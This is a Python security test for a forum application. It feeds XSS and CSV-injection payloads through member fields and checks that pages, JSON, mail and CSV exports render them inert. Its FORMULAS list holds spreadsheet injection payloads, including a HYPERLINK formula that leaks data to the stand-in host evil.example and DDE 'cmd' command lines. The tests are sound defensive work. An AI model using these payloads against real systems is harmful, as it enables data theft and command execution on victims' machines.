"""XSS and CSV injection: hostile text (tests/security/corpus.py: the Big List of Naughty
Strings and OWASP-style filter-evasion vectors) written through every field a member can fill,
then read back everywhere it is shown: pages, htmx partials, JSON, the mail outbox and CSV
exports. Nothing may come back as live markup, no request may fail with a 5xx, and no CSV cell
may start a spreadsheet formula. The browser half is tests/browser/test_xss_in_browser.py."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

from PIL import Image
from sqlalchemy import select

from app.models import OutboxMail
from tests.security.corpus import (
    OWASP_STYLE,
    corpus,
    csv_formula_cells,
    markup_problems,
    sample,
    single_line,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]
HTML = {"Accept": "text/html"}
HTMX = {"Accept": "text/html", "HX-Request": "true"}


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "PNG")
    return buffer.getvalue()


async def _page(client, url: str, *, headers=HTML) -> str:
    answer = await client.get(url, headers=headers)
    assert answer.status_code < 500, (url, answer.status_code)
    assert answer.status_code == 200, (url, answer.status_code)
    problems = markup_problems(answer.text)
    assert problems == [], (url, problems)
    return answer.text


async def _csv(client, url: str) -> str:
    answer = await client.get(url)
    assert answer.status_code == 200, (url, answer.status_code, answer.text[:300])
    assert csv_formula_cells(answer.text) == [], url
    return answer.text


async def test_hostile_text_is_inert_everywhere_it_is_shown(signed_in, database):
    admin, _ = await signed_in("admin")
    operator, _ = await signed_in("operator")
    author, member = await signed_in("member")
    reader, _ = await signed_in("member")
    category = await admin.send_json(
        "POST", "/api/v1/categories", {"slug": "xss", "name_en": "XSS"}
    )
    assert category.status_code == 201
    category_id = category.json()["id"]

    payloads = sample()
    assert len(payloads) > 100
    refused = 0
    topic_ids: list[int] = []
    accepted: list[str] = []
    for number, payload in enumerate(payloads):
        name = single_line(payload, 60) or "x"
        profile = await author.send_json(
            "PATCH", "/api/v1/me", {"display_name": name, "bio": payload[:2000]}
        )
        assert profile.status_code in (200, 422), (payload, profile.text)
        title = single_line(f"T{number} {payload}", 200)
        topic = await author.send_json(
            "POST",
            "/api/v1/topics",
            {"category_id": category_id, "title": title, "body": payload, "tags": ["xss"]},
        )
        assert topic.status_code in (201, 422), (payload, topic.text)
        if topic.status_code != 201:
            refused += 1
            continue
        data = topic.json()
        accepted.append(payload)
        topic_ids.append(data["topic"]["id"])
        assert [p for post in data["posts"] for p in markup_problems(post["cooked"])] == []
        await _page(reader, f"/t/{data['topic']['id']}")
        if number % 3 == 0:
            await _page(reader, f"/u/{member.handle}")
    assert refused < len(payloads) / 2, "most hostile text is stored (and shown inert)"

    # Replies with every payload at once, an image whose file name is hostile, and a mention.
    first = topic_ids[0]
    everything = corpus()
    stored_chunks = 0
    for start in range(0, len(everything), 25):
        chunk = "\n\n".join(everything[start : start + 25])
        reply = await reader.send_json("POST", f"/api/v1/topics/{first}/posts", {"body": chunk})
        assert reply.status_code in (201, 422), reply.text
        if reply.status_code == 201:
            stored_chunks += 1
            assert markup_problems(reply.json()["cooked"]) == []
    assert stored_chunks >= 5
    for payload in OWASP_STYLE[:12]:
        stored = await author.post(
            "/api/v1/uploads",
            files={"file": (f"{payload}.png", _png(), "image/png")},
            data={"alt": ""},
            headers={"X-CSRF-Token": await author.csrf_token()},
        )
        assert stored.status_code == 201, stored.text
        post = await author.send_json(
            "POST",
            f"/api/v1/topics/{first}/posts",
            {"body": f"@{member.handle} {stored.json()['markdown']}"},
        )
        assert post.status_code == 201, post.text
        assert markup_problems(post.json()["cooked"]) == []

    for url in (
        "/",
        "/categories",
        "/c/xss",
        "/tags/xss",
        f"/t/{first}",
        f"/u/{member.handle}",
        "/search?q=script",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/leaderboard",
        "/notifications",
    ):
        await _page(reader, url)
        await _page(reader, url, headers=HTMX)
    topic_json = await reader.get(f"/api/v1/topics/{first}")
    assert [p for post in topic_json.json()["posts"] for p in markup_problems(post["cooked"])] == []
    await _page(author, "/notifications")

    # Formula text in member-written fields never reaches a CSV as a formula.
    for formula in FORMULAS:
        answer = await author.send_json(
            "PATCH", "/api/v1/me", {"display_name": single_line(formula, 60)}
        )
        assert answer.status_code in (200, 422)
        if answer.status_code == 200:
            await _page(operator, "/ops/members")
            await _csv(operator, "/ops/members.csv")

    today = datetime.now(UTC).date()
    survey = await operator.send_json(
        "POST",
        "/api/v1/ops/surveys",
        {
            "title": "How are we doing?",
            "subject": "Kizuna",
            "reason_question": "Why?",
            "extra_questions": ["Anything else?"],
            "opens_on": today.isoformat(),
            "closes_on": (today + timedelta(days=7)).isoformat(),
        },
    )
    assert survey.status_code == 201, survey.text
    survey_id = survey.json()["id"]
    for index, client in enumerate((author, reader)):
        answered = await client.send_json(
            "POST",
            f"/api/v1/surveys/{survey_id}/responses",
            {
                "score": 3 + index,
                "reason": FORMULAS[index] + OWASP_STYLE[index],
                "extra_answers": [FORMULAS[-1 - index]],
            },
        )
        assert answered.status_code == 201, answered.text
    await _page(operator, f"/ops/surveys/{survey_id}")
    await _csv(operator, f"/ops/surveys/{survey_id}/responses.csv")

    now = datetime.now(UTC)
    campaign = await operator.send_json(
        "POST",
        "/api/v1/campaigns",
        {
            "title_en": "Share your setup",
            "kind": "application",
            "starts_at": (now - timedelta(hours=1)).isoformat(),
            "ends_at": (now + timedelta(days=3)).isoformat(),
            "questions": [{"kind": "text", "prompt_en": "Where do you use it?"}],
        },
    )
    assert campaign.status_code == 201, campaign.text
    campaign_id = campaign.json()["id"]
    opened = await operator.send_json("POST", f"/api/v1/campaigns/{campaign_id}/open")
    assert opened.status_code == 200, opened.text
    question_id = campaign.json()["questions"][0]["id"]
    for index, client in enumerate((author, reader)):
        entry = await client.send_json(
            "POST",
            f"/api/v1/campaigns/{campaign_id}/entries",
            {"answers": {str(question_id): FORMULAS[2 + index] + " " + OWASP_STYLE[index]}},
        )
        assert entry.status_code == 201, entry.text
    await _page(author, f"/campaigns/{campaign_id}")
    await _page(operator, f"/ops/campaigns/{campaign_id}/entries")
    await _csv(operator, f"/ops/campaigns/{campaign_id}/entries.csv")
    await _csv(admin, "/mod/audit.csv")

    async with database.transaction(write=False) as session:
        mails = (await session.execute(select(OutboxMail.body_html))).scalars().all()
    for body in mails:
        assert markup_problems(body) == []
